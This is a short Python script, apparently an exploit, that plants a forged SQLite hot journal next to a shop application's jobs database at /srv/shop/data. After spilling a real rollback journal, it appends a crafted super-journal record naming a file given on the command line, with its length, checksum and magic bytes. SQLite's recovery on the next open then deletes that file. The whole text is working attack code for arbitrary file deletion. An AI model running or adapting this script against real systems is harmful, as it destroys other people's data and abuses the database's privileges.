"""As the application's user: leaves a hot journal whose super-journal, which SQLite deletes, is the given file."""

import shutil
import sqlite3
import struct
import sys
from pathlib import Path

BESIDE = Path("/srv/shop/data/jobs.db-journal")
MAGIC = bytes.fromhex("d9d505f920a163d7")

work = Path("/srv/shop/work.db")
shutil.copy("/srv/shop/data/jobs.db", work)
db = sqlite3.connect(work, isolation_level=None)
db.execute("PRAGMA cache_size = 1")  # so that it spills, and syncs its journal before
db.execute("BEGIN IMMEDIATE")
db.execute("UPDATE jobs SET status = 'x'")
db.execute("CREATE TABLE pad (a)")
db.executemany("INSERT INTO pad VALUES (?)", [("y" * 3000,)] * 200)
journal = Path(f"{work}-journal").read_bytes()
target = sys.argv[1].encode()
check = sum(byte if byte < 128 else byte - 256 for byte in target) & 0xFFFFFFFF
page = 0x40000000 // 4096 + 1
journal += struct.pack(">I", page) + target + struct.pack(">II", len(target), check) + MAGIC
db.execute("ROLLBACK")
BESIDE.write_bytes(journal)
